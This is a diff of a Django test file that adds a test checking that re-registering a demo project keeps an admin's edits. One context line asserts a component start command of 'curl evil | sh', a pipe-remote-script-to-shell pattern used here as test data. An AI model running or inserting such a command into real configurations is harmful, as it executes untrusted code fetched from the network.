@@ -5,7 +5,7 @@ from django.contrib.auth.models import Group, Permission, User
 from django.test import Client
 from django.urls import reverse
 
-from environments import crypto, roles, services, tokens
+from environments import crypto, demo, roles, services, tokens
 from environments.models import (
     ApiToken,
     AuditEvent,
@@ -183,3 +183,15 @@ def test_the_admin_role_edits_projects_and_their_components_in_the_admin(demo_pr
     assert reverse("admin:environments_project_changelist") in index
     assert changed.status_code == 302, changed.content.decode()[:2000]
     assert Component.objects.get(name="shell").start_command == "curl evil | sh"
+
+
+def test_registering_the_demo_again_keeps_an_admins_edits(demo_project, demo_repo) -> None:
+    """`make run` registers the demo at every start."""
+    demo_project.smoke = {"tests": "smoke"}
+    demo_project.save()
+    demo_project.components.filter(name="web").update(image="registry.local/web:{commit}")
+
+    again = demo.register(demo_repo)
+
+    assert again.smoke == {"tests": "smoke"}
+    assert again.components.get(name="web").image == "registry.local/web:{commit}"
